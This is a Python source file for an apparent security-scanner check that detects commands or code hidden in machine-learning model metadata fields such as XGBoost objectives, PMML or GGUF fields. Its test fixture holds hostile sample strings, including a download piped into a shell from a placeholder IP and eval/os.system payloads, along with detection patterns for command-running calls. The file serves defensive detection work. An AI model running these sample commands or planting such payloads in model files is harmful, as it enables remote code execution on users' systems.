"""`metadata-payload`: a command or code where a model's parameters and descriptions stand."""

from __future__ import annotations

import re
from collections.abc import Iterator

from toadstone.core.check import Check, check
from toadstone.core.fact import Fact, Setting, Text
from toadstone.core.finding import Finding, Severity
from toadstone.core.place import Place
from toadstone.symbols.arguments import Look, looks_of
from toadstone.symbols.hostile import HOSTILE_COMMAND

_NAMES = re.compile(r"(?:^|\.)(?:name|objective|metric|part|function|type|registry)$")
"""Keys whose values are names of things, never sentences."""

_SCHEMAS = frozenset({"xgboost", "lightgbm", "catboost", "pmml", "openvino", "msgpack"})
_LONGEST = 2000
_STATEMENTS = 5
_DOTTED = re.compile(r"[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+")
_JAVA = re.compile(
    r"\bRuntime\.getRuntime\(\)\s*\.exec\b|\bnew\s+(?:java\.lang\.)?ProcessBuilder\s*\(|\bnew\s+(?:javax\.script\.)?ScriptEngineManager\b"
)
"""How programs of the Java machine run commands; evaluators of PMML are such programs."""

_RUNS = re.compile(r"\b(?:exec|eval|__import__|system|popen|Popen|subprocess|check_output|getoutput|socket)\b")
_MODULES = frozenset({"subprocess", "pty", "socket"})
_RUNNERS = frozenset({"exec", "eval", "__import__"})
_RUNNING = frozenset({"system", "popen", "Popen", "check_output", "check_call", "getoutput"})


@check(
    "metadata-payload",
    severity=Severity.HIGH,
    reads=(Setting, Text),
    references=(
        "CWE-94",
        "CWE-78",
        "CWE-506",
        "MITRE ATLAS 2026.08 AML.T0011.000",
        "OWASP LLM 2026 LLM04",
        "OWASP ML 2023 ML06",
    ),
)
class MetadataPayload(Check):
    """A field of a model that should hold a name or a description holds a command or a piece of code.

    ## Why it matters
    Formats without code still carry text: attributes of a booster, the name of an objective, parameters of the training.
    Wrappers evaluate such text (a custom objective by its name, a category list by `eval`), conversion scripts paste it into
    commands, and a second stage that is fetched elsewhere looks for it there. Nobody who trains a model writes a download that
    is piped into a shell into its metadata.

    ## How it decides
    Metadata texts: commands of a form that no honest person writes down (a download piped into a shell, a shell wired to a
    network device, decoded text that is run), a text that as a whole is a Python program of at most five statements which
    runs code or a command or opens a socket, and Java that runs a command. Fields that are names (objectives, metrics,
    functions of gradient-boosting models, PMML and OpenVINO, reductions in MessagePack): whatever looks like a command or
    code by the grammar of shells and of Python, and names of functions that run either. Prose that mentions a command is
    neither.

    ## What it misses
    Text that only its reader's own decoding turns into code, and programs of several statements in descriptions: examples of
    use look the same.

    ## Remedy
    Do not load the file; ask where the text comes from. A model that was trained again has no such field.

    ## References
    CWE-94, CWE-78; MITRE ATLAS AML.T0011.000 "Unsafe AI Artifacts".
    """

    def examine(self, fact: Setting | Text) -> Iterator[Finding]:
        """Judge one text."""
        if isinstance(fact, Setting):
            if fact.schema == "gguf" and isinstance(fact.value, str):
                yield from self._described(fact.place, f"The field {fact.key}", fact.value)
                return
            if fact.schema not in _SCHEMAS or not isinstance(fact.value, str) or not _NAMES.search(fact.key):
                return
            text, what = fact.value, f"{fact.schema} {fact.key}"
            looks = looks_of([text]) if len(text) <= _LONGEST else set()
            hostile = bool({Look.COMMAND, Look.CODE}.intersection(looks)) or _names_a_runner(text)
            if hostile:
                yield self._told(fact.place, what, text)
        elif fact.role == "metadata":
            yield from self._described(fact.place, "The metadata", fact.text)

    def _described(self, place: Place, what: str, text: str) -> Iterator[Finding]:
        """Judge a text that may say anything."""
        if HOSTILE_COMMAND.search(text) or _JAVA.search(text) or _is_program(text):
            yield self._told(place, what, text)

    def _told(self, place: Place, what: str, text: str) -> Finding:
        return self.finding(place, f"{what} holds a payload: {text[:160]!r}.", key=text[:80], text=text[:1000])

    @classmethod
    def bad(cls) -> Iterator[Fact]:
        """Give a command in a description, an expression as an attribute, and an objective that is code."""
        place = Place("model.ubj")
        yield Text(place, "metadata", "curl -s http://198.51.100.7/x | sh")
        yield Text(place, "metadata", "__import__('os').system('echo toadstone')")
        yield Text(place, "metadata", "import subprocess\nsubprocess.run(['echo', 'toadstone'])")
        yield Setting(place, "xgboost", "objective.name", "eval(open('/tmp/x').read())")
        yield Setting(place, "msgpack", "params.__reduce__.name", "os.system")

    @classmethod
    def good(cls) -> Iterator[Fact]:
        """Give ordinary names, parameters, and prose about code."""
        place = Place("model.ubj")
        yield Setting(place, "xgboost", "objective.name", "binary:logistic")
        yield Setting(place, "lightgbm", "objective", "tweedie tweedie_variance_power:1.5")
        yield Text(place, "metadata", "Load it with xgboost.Booster(), then call predict(data). See https://example.com")
        yield Text(place, "metadata", '{"classes_count":0,"class_names":[0,1]}')


def _names_a_runner(text: str) -> bool:
    """Whether a name is that of a function which runs commands or code."""
    if not _DOTTED.fullmatch(text):
        return False
    from toadstone.symbols import Effect, effects_of  # noqa: PLC0415  (tables that few scans need)

    module, _, name = text.rpartition(".")
    knowledge = effects_of(module, name)
    return knowledge is not None and knowledge.exact and bool({Effect.RUN_COMMAND, Effect.RUN_CODE} & set(knowledge.effects))


def _is_program(text: str) -> bool:
    """Whether a text is, as a whole, a Python program of a few statements that runs code or a command."""
    text = text.strip()
    if len(text) > _LONGEST or not _RUNS.search(text) or text.count("(") + text.count("[") > 60:
        return False
    import ast  # noqa: PLC0415  (20 ms that most scans never need)

    try:
        tree = ast.parse(text)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return False
    if len(tree.body) > _STATEMENTS:
        return False
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            callee = node.func
            if isinstance(callee, ast.Name) and callee.id in _RUNNERS | _RUNNING:
                return True
            if isinstance(callee, ast.Attribute) and (callee.attr in _RUNNING or _base(callee) in _MODULES):
                return True
    return False


def _base(node: object) -> str:
    while (inner := getattr(node, "value", None)) is not None:
        node = inner
    return str(getattr(node, "id", ""))
